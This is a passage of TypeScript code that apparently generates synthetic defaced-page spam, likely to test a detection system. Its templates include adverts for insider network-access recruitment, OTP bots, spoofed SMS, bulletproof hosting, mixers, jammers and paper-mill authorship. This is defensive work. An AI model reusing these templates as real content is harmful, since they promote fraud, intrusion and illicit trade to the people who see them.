  en: ["Cheap cigarettes online – duty free", "Price per carton (10 packs), shipped from our EU warehouse, no customs fees", "Order now"],
  de: ["Zigaretten günstig online kaufen – zollfrei", "Preis pro Stange (10 Schachteln), Versand aus dem EU-Lager, keine Zollgebühren", "Jetzt bestellen"],
  fr: ["Cigarettes pas cher en ligne – hors taxes", "Prix par cartouche (10 paquets), expédié depuis notre entrepôt UE, sans frais de douane", "Commander"],
  it: ["Sigarette online a basso prezzo – duty free", "Prezzo per stecca (10 pacchetti), spedizione dal magazzino UE, senza dogana", "Ordina ora"],
  es: ["Tabaco barato online – libre de impuestos", "Precio por cartón (10 cajetillas), envío desde almacén UE, sin aduanas", "Pedir ahora"],
  nl: ["Goedkope sigaretten online – belastingvrij", "Prijs per slof (10 pakjes), verzonden vanuit ons EU-magazijn, geen douanekosten", "Nu bestellen"]
}

// Illicit cigarette shops, recalled from memory, with uncertain details, of reports on online sellers of untaxed and counterfeit cigarettes (WHO FCTC and OLAF material, and KPMG's annual studies of illicit tobacco in Europe, about 2014–2023) and of SEO spam on hacked sites for "cheap cigarettes online", "Zigaretten günstig" and "cigarettes pas cher": a price list per carton of well-known brands and heated-tobacco sticks, duty free, shipped from an "EU warehouse", with a shop link and payment by transfer or crypto.
const cigaretteShop = fresh16("'cheap cigarettes online, duty free' price list per carton with a shop link (untaxed tobacco spam)", (page, rng) => {
  const [h, p, cta] = some(rng, page, cigaretteWords)
  const cur = pick(rng, ["€", "$", "£"])
  const brands = sample(rng, ["Marlboro Red", "Marlboro Gold", "Camel Blue", "Winston Classic", "L&M Blue", "Parliament Aqua", "Davidoff Gold", "Chesterfield Red", "Lucky Strike", "Heets Amber (IQOS)", "Terea Turquoise", "Pall Mall", "Rothmans Blue", "Kent Nanotek"], between(rng, 4, 8))
  const list = brands.map((b) => `<li>${esc(b)} — <s>${cur}${between(rng, 75, 110)}</s> <b>${cur}${between(rng, 19, 39)}</b></li>`).join("")
  const shop = `https://${host(rng, page, ["cigs", "tabak", "smoke", "dutyfree", "cigarettes", "tabac"])}/${pick(rng, ["", "shop", "brands", "c/" + alnum(rng, 4)])}`
  const inner = `<h3>🚬 ${esc(h)}</h3><p>${esc(p)}</p><ul>${list}</ul><p>${esc(pick(rng, ["Payment: bank transfer, BTC, USDT", "Free shipping from 3 cartons", "Discreet packaging, tracking number"]))} · <a href="${esc(shop)}">${esc(cta)}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["offer", "post", "shop-widget"], "#6d4c41", inner)))
})

// Mixer adverts, recalled from memory of the US Treasury's sanctions on Blender.io (May 2022), Tornado Cash (August 2022) and Sinbad (November 2023), of the ChipMixer takedown (March 2023), and of mixers' SEO spam and forum adverts promising "no logs", a letter of guarantee and a random delay: an advert for a bitcoin mixer with fees, delays, a .onion address and a clear-web mirror.
const cryptoMixer = fresh16("bitcoin mixer advert: 'no logs, letter of guarantee, random delay', with fees and a .onion address", (page, rng) => {
  const name = `${pick(rng, ["Coin", "Bit", "Crypto", "Shadow", "Ghost", "Anon", "Dark"])}${pick(rng, ["Mixer", "Blender", "Tumbler", "Wash", "Fog", "Mix"])}${chance(rng, 0.3) ? ".io" : ""}`
  const onion = `${Array.from({ length: 56 }, () => pick(rng, [..."abcdefghijklmnopqrstuvwxyz234567"])).join("")}.onion`
  const mirror = `https://${slug(name).replace(/-io$/, "")}${pick(rng, ["", "-io", digits(rng, 2)])}.${pick(rng, ["io", "to", "cc", "me", "su", "ws"])}`
  const feats = lineOf(rng, [`Fee ${pick(rng, ["0.5%", "1% + 0.0005 BTC", "0.3–2.5% random", "from 0.4%"])}`, `Random delay up to ${pick(rng, [24, 48, 72])} hours`, "No logs, no registration, no KYC", "Letter of guarantee signed with our PGP key", "Minimum 0.001 BTC · also ETH, LTC, USDT", "Up to 10 output addresses"], between(rng, 3, 5))
  const inner = `<h3>🌀 ${esc(name)} — ${esc(pick(rng, ["the most trusted bitcoin mixer", "clean your coins", "bitcoin tumbler since 2017", "anonymous BTC mixing"]))}</h3><ul>${feats}</ul><p>Tor: <code>${onion}</code><br>${esc(pick(rng, ["Clearnet mirror", "Mirror", "Web"]))}: <a href="${mirror}">${esc(new URL(mirror).hostname)}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["mixer", "post", "widget"], pick(rng, ["#37474f", "#4527a0", "#000"]), inner)))
})

// Marriage agencies, recalled from memory, with uncertain details, of the US Federal Trade Commission's and consumer groups' warnings (about 2005–2020) about international marriage brokers that charge per letter and per chat minute for profiles of Ukrainian, Russian, Latin American or Filipina women, of the International Marriage Broker Regulation Act (2005), and of such agencies' SEO spam on hacked sites: a block of profiles (name, age, city) with "send a letter" links and credit prices, pointing to the agency.
const marriageAgency = fresh16("international marriage agency spam: women's profiles with 'send a letter' links and per-letter credit prices", (page, rng) => {
  const [origin, names, cities] = pick(rng, [
    ["Ukrainian", ["Olena", "Kateryna", "Yulia", "Anastasia", "Oksana", "Iryna", "Viktoria", "Daria"], ["Kyiv", "Odesa", "Kharkiv", "Dnipro", "Lviv", "Zaporizhzhia"]],
    ["Latin", ["Valentina", "Camila", "Daniela", "Mariana", "Andrea", "Gabriela", "Luisa"], ["Medellín", "Cali", "Barranquilla", "Lima", "Guadalajara", "Cartagena"]],
    ["Filipina", ["Maricel", "Jasmine", "Angelica", "Kristine", "Rhea", "Joy", "Lovely"], ["Cebu", "Davao", "Manila", "Iloilo", "Cagayan de Oro"]],
    ["Russian", ["Svetlana", "Natasha", "Ekaterina", "Marina", "Tatiana", "Ksenia"], ["Moscow", "Kazan", "Novosibirsk", "Samara", "Omsk"]]
  ] as const)
  const agency = `https://${host(rng, page, ["brides", "dating", "love", "wife", "marry", "amour"])}/${pick(rng, ["profiles", "girls", "ladies", "search"])}`
  const profiles = sample(rng, [...names], between(rng, 3, 6)).map((n) => `<li><img src="https://${new URL(agency).hostname}/photos/${alnum(rng, 8)}.jpg" width="60" height="60" alt="${esc(n)}" style="vertical-align:middle;border-radius:50%"> <b>${esc(n)}</b>, ${between(rng, 19, 34)}, ${esc(pick(rng, [...cities]))} — <a href="${agency}/${slug(n)}-${digits(rng, 6)}">${esc(pick(rng, ["Send a letter", "Write to her", "Start chat"]))}</a></li>`).join("")
  const inner = `<h3>💍 ${esc(pick(rng, [`Meet beautiful ${origin} women for marriage`, `${origin} brides looking for a serious man`, `Real ${origin} women – ${between(rng, 5, 40)},000 verified profiles`]))}</h3><ul style="list-style:none;padding:0">${profiles}</ul><p>${esc(pick(rng, [`Letters from ${between(rng, 5, 15)} credits · 1 credit = $${pick(rng, ["0.99", "1.99", "2.50"])}`, "First letter free, video chat 20 credits/min", `Romance tours to ${pick(rng, [...cities])} every month`]))}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["dating", "post", "partner"], pick(rng, ["#ad1457", "#c2185b", "#880e4f"]), inner)))
})

// Stem-cell clinics abroad, recalled from memory of Turner and Knoepfler's study of US direct-to-consumer stem-cell clinics (Cell Stem Cell, about 2016), of the US FDA's warnings and court cases against unapproved stem-cell clinics (about 2017–2021), and of medical-tourism spam for clinics in Panama, Mexico, Ukraine and Thailand promising to treat autism, MS, ALS or Parkinson's: a block naming conditions "treated", package prices and a patient coordinator on WhatsApp.
const stemCellClinic = fresh16("stem-cell clinic abroad spam: 'treats autism, MS, ALS, Parkinson's' with package prices and a WhatsApp coordinator", (page, rng) => {
  const where = pick(rng, ["Panama City", "Tijuana", "Cancún", "Kyiv", "Bangkok", "Nassau", "San José, Costa Rica", "Istanbul", "Belgrade"])
  const name = `${pick(rng, ["Regen", "Stem", "Cell", "Vita", "Renova", "BioLife", "Neo"])}${pick(rng, ["Med", "Cure", "Care", "Cell", "Gen"])} ${pick(rng, ["Institute", "Clinic", "Center", "Medical Group"])}`
  const conds = lineOf(rng, ["Autism spectrum disorder", "Multiple sclerosis", "ALS / motor neurone disease", "Parkinson's disease", "Cerebral palsy", "Spinal cord injury", "Type 1 diabetes", "Anti-aging & erectile dysfunction", "Long COVID", "Knee and hip arthritis"], between(rng, 3, 6))
  const pkg = rows(sample(rng, [["Basic (50M cells)", between(rng, 6, 12)], ["Advanced (150M cells)", between(rng, 14, 24)], ["Premium (300M umbilical MSC + exosomes)", between(rng, 28, 48)], ["Child protocol (autism)", between(rng, 15, 30)]] as const, between(rng, 2, 4)).map(([a, k]) => [esc(a), `<b>$${k},${pick(rng, ["000", "500", "900"])}</b>`]))
  const site = `https://${host(rng, page, ["stemcell", "regen", "cellcure", "stemtherapy", "mscclinic"])}/`
  const inner = `<h3>🧬 ${esc(name)} – ${esc(where)}</h3><p>${esc(pick(rng, ["Umbilical cord stem cell therapy, no waiting lists", "Results in 2–4 weeks, 92% of patients improved", "What your doctor won't tell you about stem cells"]))}</p><ul>${conds}</ul><table>${pkg}</table><p>${esc(pick(rng, ["Patient coordinator", "Free consultation", "Ask for our brochure"]))}: ${wa(rng)} · <a href="${site}">${esc(new URL(site).hostname)}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["health", "post", "clinic-ad"], "#00796b", inner)))
})

const psychicWords: Table<readonly [string, string, string, ReadonlyArray<string>]> = {
  en: ["Free psychic reading", "First 3 minutes free – love, money, destiny", "Call now", ["Tarot", "Clairvoyance", "Medium", "Love & relationships", "Astrology"]],
  fr: ["Voyance gratuite par téléphone", "Les 10 premières minutes offertes – amour, travail, argent", "Appeler un voyant", ["Tarot", "Voyance pure", "Médium", "Retour affectif", "Astrologie"]],
  de: ["Kostenlose Hellseher-Beratung", "Die ersten 15 Minuten gratis – Liebe, Beruf, Zukunft", "Jetzt anrufen", ["Tarot", "Hellsehen", "Medium", "Liebe & Partnerschaft", "Astrologie"]],
  es: ["Tarot gratis y videncia", "Primeros 10 minutos gratis – amor, dinero, destino", "Llamar ahora", ["Tarot", "Videncia", "Médium", "Amor", "Astrología"]],
  it: ["Cartomanzia gratis al telefono", "Primo consulto gratuito – amore, lavoro, futuro", "Chiama ora", ["Tarocchi", "Chiaroveggenza", "Medium", "Amore", "Astrologia"]],
  pt: ["Vidente online grátis", "Primeiros 5 minutos grátis – amor, dinheiro, destino", "Ligar agora", ["Tarot", "Vidência", "Médium", "Amor", "Astrologia"]],
  nl: ["Gratis paragnost-consult", "Eerste 5 minuten gratis – liefde, werk, toekomst", "Bel nu", ["Tarot", "Helderziendheid", "Medium", "Liefde", "Astrologie"]]
}

// Psychic-line spam, recalled from memory, with uncertain details, of the "voyance gratuite" link spam that French clean-up firms and forums (about 2012–2022) kept finding on hacked sites, of German and Italian psychic-line adverts on premium numbers and of advertising-standards rulings on psychic services: a block with psychics' names and specialities, a "first minutes free" promise, a premium or international number and a chat link.
const psychicLine = fresh16("psychic reading spam ('voyance gratuite', 'first minutes free') with psychics' names, a premium number and a chat link", (page, rng) => {
  const [h, p, cta, specs] = some(rng, page, psychicWords)
  const readers = sample(rng, ["Madame Irma", "Luna", "Séraphine", "Esmeralda", "Maître Kadi", "Aurore", "Cassandra", "Mystic Rose", "Valentino", "Sybille", "Gabriel"], between(rng, 2, 4))
  const list = readers.map((r) => `<li><b>${esc(r)}</b> — ${esc(pick(rng, specs))} ⭐ ${pick(rng, ["4.8", "4.9", "5.0"])} (${between(rng, 120, 9999)})</li>`).join("")
  const num = pick(rng, [`08 9${between(rng, 0, 9)} ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`, `0900 ${digits(rng, 3)} ${digits(rng, 4)}`, `899 ${digits(rng, 3)} ${digits(rng, 3)}`, `+1 900 ${digits(rng, 3)} ${digits(rng, 4)}`, `0906 ${digits(rng, 3)} ${digits(rng, 4)}`, intlMobile(rng)])
  const chat = `https://${host(rng, page, ["voyance", "psychic", "tarot", "medium", "vidente", "astro"])}/${pick(rng, ["chat", "consultation", "gratuit", "free-reading"])}`
  const inner = `<h3>🔮 ${esc(h)}</h3><p>${esc(p)}</p><ul>${list}</ul><p><a href="tel:${num.replace(/[^\d+]/g, "")}" style="${button(rng, "#6a1b9a")}">📞 ${esc(cta)}: ${esc(num)}</a> <a href="${esc(chat)}">${esc(pick(rng, ["Chat", "Tchat", "Online", "Consult online"]))}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["voyance", "post", "ad"], "#6a1b9a", inner)))
})

// Insider recruitment, recalled from memory of Lapsus$'s Telegram posts (about March 2022) offering to pay employees of telecoms, software firms and call centres for VPN, Citrix or AnyDesk access, of LockBit 2.0 changing victims' desktop wallpapers to recruit insiders with a cut of the ransom (about August 2021), and of reports on such adverts on hacked sites: a notice offering insiders money for network access, naming the sectors, the access wanted, the payout and an encrypted contact.
const insiderRecruitment = fresh16("'we pay employees for access to their company's network (VPN, Citrix, RDP)' insider-recruitment notice with a payout and an encrypted contact", (page, rng) => {
  const sectors = lineOf(rng, ["Telecom operators (SIM, internal tools)", "Banks and payment processors", "Software and SaaS companies", "Hosting and cloud providers", "Call centres and help desks", "Hospitals and insurers", "Government contractors"], between(rng, 3, 5))
  const access = sample(rng, ["VPN", "Citrix", "RDP", "AnyDesk", "VDI", "Okta / SSO", "Active Directory", "Jira / Confluence"], between(rng, 3, 5)).join(", ")
  const pay = pick(rng, [`up to $${between(rng, 20, 100)},000 per week`, `${between(rng, 10, 30)}% of the final payout`, `$${between(rng, 5, 50)}k upfront + bonus`])
  const contactLine = pick(rng, [`Tox: <code>${hex(rng, 76).toUpperCase()}</code>`, tg(rng, ["access", "insider", "broker", "hire", "job"]), `Session: <code>05${hex(rng, 64)}</code>`, `qTox / Jabber: ${slug(nick(rng)) || "insider"}@${pick(rng, ["exploit.im", "jabber.cz", "xmpp.jp"])}`])
  const inner = `<h2 style="margin:0 0 6px">💼 ${esc(pick(rng, ["Would you like to earn millions?", "WE ARE RECRUITING INSIDERS", "Sell us your access", "Work for us from inside your company"]))}</h2><p>${esc(pick(rng, ["We buy access to corporate networks. You stay anonymous, we do the rest.", "If you work at one of these companies, you can make more in a week than in a year.", "Employees with remote access wanted. Full anonymity guaranteed."]))}</p><ul>${sectors}</ul><p>${esc(pick(rng, ["Access", "We need"]))}: ${esc(access)}. ${esc(pick(rng, ["Payout", "We pay"]))}: <b>${esc(pay)}</b>.</p><p>${contactLine}</p>`
  return splices(insert(pick(rng, [top(page), someSpot(rng, page)]), box(rng, ["recruit", "msg", "notice"], pick(rng, ["#000", "#b71c1c", "#1a237e"]), inner)))
})

// Bulletproof hosting adverts, recalled from memory of Trend Micro's and Brian Krebs's reporting on bulletproof hosters (about 2015–2020), of the US, UK and Australian sanctions on Zservers (about February 2025), and of such hosters' forum and SEO adverts: a plan table of offshore servers that "ignore DMCA and abuse complaints", allow the content other hosts refuse, accept only crypto and give a Jabber or Telegram contact.
const bulletproofHosting = fresh16("bulletproof hosting advert: offshore VPS plans 'DMCA and abuse ignored', crypto only, Jabber or Telegram contact", (page, rng) => {
  const name = `${pick(rng, ["Shield", "Fortress", "Offshore", "Armor", "Titan", "Bunker", "Ghost"])}${pick(rng, ["Host", "Servers", "VPS", "Cloud", "Net"])}`
  const locs = sample(rng, ["Moldova", "Seychelles", "Russia", "Hong Kong", "Iran", "Malaysia", "Bulgaria", "Panama", "Belize"], between(rng, 2, 4)).join(" · ")
  const plans = rows(sample(rng, [["VPS S – 2 vCPU / 4 GB", between(rng, 25, 49)], ["VPS M – 4 vCPU / 8 GB", between(rng, 55, 99)], ["Dedicated E3 / 32 GB", between(rng, 160, 290)], ["Fast-flux DNS", between(rng, 60, 150)], ["Domain (abuse-resistant)", between(rng, 15, 40)]] as const, between(rng, 3, 5)).map(([a, p]) => [esc(a), `<b>$${p}</b>/mo`]))
  const allowed = sample(rng, ["phishing pages", "spam mailing", "botnet panels", "carding shops", "warez & torrents", "brute-force tools", "adult & gambling"], between(rng, 2, 4)).join(", ")
  const inner = `<h3>🛡 ${esc(name)} — ${esc(pick(rng, ["bulletproof hosting", "abuse-resistant offshore servers", "DMCA ignored hosting"]))}</h3><p>${esc(locs)}</p><table>${plans}</table><p>${esc(pick(rng, ["DMCA and abuse reports ignored.", "We never disclose customer data.", "100% uptime against complaints."]))} ${esc(pick(rng, ["Allowed", "OK"]))}: ${esc(allowed)}. ${esc(pick(rng, ["Payment: BTC, XMR, USDT only", "Crypto only, no KYC"]))}</p><p>${pick(rng, [() => tg(rng, ["bphost", "offshore", "bulletproof", "abuseproof"]), () => `Jabber: ${slug(name)}@${pick(rng, ["exploit.im", "jabber.ru", "xmpp.is"])}`])()}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["hosting", "post", "ad"], "#263238", inner)))
})

// Bulk SMS and OTP bots, recalled from memory, with uncertain details, of Intel 471's and Kaspersky's reports (about 2021–2024) on "OTP bot" services that phone victims in a bank's name to collect one-time codes, of reports on SMS "sender ID" spoofing services and on the arrests of people driving "SMS blaster" fake base stations through cities (Thailand and the UK, about 2024–2025), and of their Telegram adverts: a price list for spoofed-sender SMS, OTP-bot subscriptions and blaster rental, with a Telegram contact.
const smsSpoofing = fresh16("bulk SMS with spoofed sender names, OTP-bot subscriptions and SMS-blaster rental price list (fraud-service advert)", (page, rng) => {
  const items = rows(sample(rng, [
    ["Bulk SMS, any sender ID (bank names OK)", `$${between(rng, 8, 25)} / 1,000`], ["Sender ID = your target's name", `$${between(rng, 30, 80)} setup`], ["OTP bot – calls victim as their bank, grabs code", `$${between(rng, 150, 420)} / month`],
    ["OTP bot – Apple Pay / PayPal / Coinbase scripts", `$${between(rng, 80, 200)} / week`], ["SMS blaster (fake cell tower) rental", `$${between(rng, 1500, 6000)} / week`], ["Caller ID spoofing, unlimited", `$${between(rng, 50, 120)} / month`], ["Verified short links that pass filters", `$${between(rng, 20, 60)} / 100`]
  ] as const, between(rng, 3, 6)).map(([a, p]) => [esc(a), `<b>${esc(p)}</b>`]))
  const name = `${pick(rng, ["Sms", "Otp", "Spoof", "Blast", "Ghost"])}${pick(rng, ["Lord", "King", "Pro", "Hub", "Nation", "Bot"])}`
  const inner = `<h3>📨 ${esc(name)} — ${esc(pick(rng, ["best spoofing service", "99% inbox delivery", "the #1 OTP bot"]))}</h3><table>${items}</table><p>${esc(pick(rng, ["All countries · API available · crypto only", "Free test for verified vouches", "24/7 support, instant delivery"]))} · ${tg(rng, ["smslord", "otpbot", "spoof", "sendid", "blaster"])}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["service", "post", "ad"], pick(rng, ["#212121", "#01579b", "#311b92"]), inner)))
})

// Skin gambling, recalled from memory of the 2016 CS:GO Lotto scandal, of Valve's letters to skin-gambling sites (about July 2016) and its later bans of trading bots, of the case-opening, roulette and coinflip sites that kept operating and their promo-code affiliates, and of gambling-spam research that finds them on hacked sites: a block of CS2 case-opening and roulette sites with promo codes for free cases and deposit bonuses.
const skinGambling = fresh16("CS2 skin gambling spam: case-opening, roulette and coinflip sites with promo codes for free cases", (page, rng) => {
  const sites = Array.from({ length: between(rng, 3, 6) }, () => `${pick(rng, ["case", "skin", "drop", "hell", "key", "gem", "rust", "blade", "loot"])}${pick(rng, ["drop", "club", "clash", "bet", "hunt", "flip", "box", "roll"])}.${pick(rng, ["gg", "com", "net", "io", "pro", "top"])}`)
  const list = sites.map((s) => `<li><a href="https://${s}/?ref=${alnum(rng, 6)}">${esc(s)}</a> — ${esc(pick(rng, ["free case", "+10% deposit", "5 free spins", "$0.50 free", "free daily case", "+35% bonus"]))} ${esc(pick(rng, ["code", "promo", "promocode"]))}: <b>${upper(rng, between(rng, 4, 7))}</b></li>`).join("")
  const inner = `<h3>🎰 ${esc(pick(rng, ["Best CS2 case opening sites 2026", "CS2 skin roulette & coinflip – promo codes", "Free CS2 skins: working promo codes", "Top CS2 gambling sites with free cases"]))}</h3><ul>${list}</ul><p>${esc(pick(rng, ["Deposit skins from Steam, withdraw instantly. AWP Dragon Lore drops daily!", "Open cases, upgrade skins, win knives.", "Provably fair · instant Steam withdrawals"]))}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["skins", "post", "promo"], pick(rng, ["#ff6f00", "#1e88e5", "#43a047"]), inner)))
})

// Jammer shops, recalled from memory of the US FCC's enforcement against online sellers of signal jammers (a record fine of about $34.9 million against a Chinese seller, about 2014) and its warnings that they are illegal to sell or use, of Ofcom's and European regulators' similar warnings, and of jammer SEO spam: a price list of GPS, mobile-phone, Wi-Fi and drone jammers with bands and power, worldwide shipping and a shop link.
const jammerShop = fresh16("signal jammer shop spam: GPS, phone, Wi-Fi and drone jammers with bands, power and worldwide shipping", (page, rng) => {
  const items = rows(sample(rng, [
    ["Handheld 8-band phone jammer (2G/3G/4G/5G)", between(rng, 89, 189)], ["Car GPS jammer (L1/L2, cigarette lighter)", between(rng, 19, 49)], ["Desktop 16-band jammer 120W, 50 m", between(rng, 390, 990)],
    ["Wi-Fi / Bluetooth 2.4 + 5.8 GHz jammer", between(rng, 69, 159)], ["Anti-drone jammer gun (GPS + 2.4/5.8)", between(rng, 900, 2900)], ["Hidden jammer in power bank", between(rng, 59, 129)], ["Exam-room jammer (phones + earpieces)", between(rng, 140, 320)]
  ] as const, between(rng, 3, 6)).map(([a, p]) => [esc(a), `<b>$${p}</b>`]))
  const shop = `https://${host(rng, page, ["jammer", "signaljammer", "gpsjammer", "blocker", "jamming"])}/`
  const inner = `<h3>📵 ${esc(pick(rng, ["Cell phone & GPS jammers for sale", "Buy signal jammers online", "Professional jammers – all frequencies"]))}</h3><table>${items}</table><p>${esc(pick(rng, ["Worldwide shipping, discreet package.", "Ships from China in 3 days, DHL tracking.", "No questions asked."]))} <a href="${shop}">${esc(new URL(shop).hostname)}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["shop", "post", "products"], "#424242", inner)))
})

// Authorship slots for sale, recalled from memory of Anna Abalkina's research and Retraction Watch's and Science's reporting (about 2021–2023) on a paper mill (International Publisher LLC, 123mi.ru) that sold first- and co-author slots in papers accepted by indexed journals, and of similar adverts in Telegram channels and on hacked university and journal sites: a table of paper titles with the journal's quartile, the slots still free and their prices, and a contact.
const authorshipSale = fresh16("paper-mill 'co-authorship available in Scopus Q1/Q2 journals' slot table with prices and a contact", (page, rng) => {
  const topics = ["Machine learning for crop yield prediction", "Impact of digital finance on SME growth", "Graphene oxide nanocomposites for water treatment", "Green supply chains in emerging economies", "Deep learning for diabetic retinopathy detection", "Blockchain adoption in public procurement", "Economic effects of tourism after COVID-19", "IoT-based smart irrigation systems"]
  const rowsHtml = rows(sample(rng, topics, between(rng, 3, 6)).map((t) => [esc(t), pick(rng, ["Scopus Q1", "Scopus Q2", "WoS Q2", "WoS Q1 (IF 4.2)", "Scopus Q3"]), `${pick(rng, ["1st", "2nd", "3rd", "4th", "corresponding"])} author`, `<b>$${between(rng, 4, 15) * 100}</b>`]))
  const inner = `<h3>📄 ${esc(pick(rng, ["Co-authorship available", "Authorship slots – accepted articles", "Publish in Scopus in 30 days"]))}</h3><table style="width:100%"><tr><th>${esc("Article")}</th><th>Index</th><th>Slot</th><th>Price</th></tr>${rowsHtml}</table><p>${esc(pick(rng, ["Acceptance guaranteed or money back.", "Names can be added until final proof.", "Certificate of publication provided."]))} ${contact(rng, ["scopus", "publish", "coauthor", "journal", "articles"])}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["publication", "post", "call"], "#0d47a1", inner)))
})

// Rogue movers, recalled from memory of the US Federal Motor Carrier Safety Administration's "Protect Your Move" warnings (about 2010–2024) about movers that quote low by phone, demand a large deposit by Zelle or transfer, then hold belongings hostage for more, and of such movers' lead-generation spam: a table of interstate routes with low "binding" prices, a deposit by Zelle or transfer and a phone number.
const rogueMovers = fresh16("'cheapest long-distance movers, binding quote' spam with route prices and a deposit by Zelle or transfer", (page, rng) => {
  const cities = ["New York", "Miami", "Los Angeles", "Chicago", "Houston", "Atlanta", "Phoenix", "Dallas", "Seattle", "Denver", "Boston", "Orlando"]
  const routes = rows(Array.from({ length: between(rng, 3, 6) }, () => {
    const [a, b] = sample(rng, cities, 2)
    return [`${esc(a!)} → ${esc(b!)}`, pick(rng, ["1-bedroom", "2-bedroom", "Studio", "3-bedroom house"]), `<b>$${between(rng, 6, 19)}${pick(rng, ["49", "99", "00"])}</b>`]
  }))
  const phone = `(${pick(rng, ["844", "855", "866", "877", "888"])}) ${digits(rng, 3)}-${digits(rng, 4)}`
  const inner = `<h3>🚚 ${esc(pick(rng, ["Cheapest long distance movers – binding quote", "Cross-country moving from $899", "Move out of state for less – guaranteed price"]))}</h3><table>${routes}</table><p>${esc(pick(rng, ["Reserve your date with a 50% deposit (Zelle, Cash App or bank transfer).", "Book today: 40% deposit via Zelle secures the truck.", "Pay the deposit by wire and get free packing."]))} ${esc(pick(rng, ["Call", "Free quote"]))}: <a href="tel:+1${phone.replace(/\D/g, "")}">${phone}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["movers", "post", "ad"], "#ef6c00", inner)))
})

/** Every fresh16 defacement class, in a fixed order. */
export const fresh16Defacements: ReadonlyArray<ChangeClass> = [
  cspSabotage, manifestHijack, paymentRequestSheet, relMeImpersonator, intentLinks, abroadAccount, fakeEidLogin, fakeA11yWidget, autoCallPrompt,
  exitIntentScam, checksumSwap, crewCounter, crewShoutbox, fallingFlags, crewCursor, ecoIndictment, opScoreboard, freeComrade, schoolClosure,
  cigaretteShop, cryptoMixer, marriageAgency, stemCellClinic, psychicLine, insiderRecruitment, bulletproofHosting, smsSpoofing, skinGambling,
  jammerShop, authorshipSale, rogueMovers
]
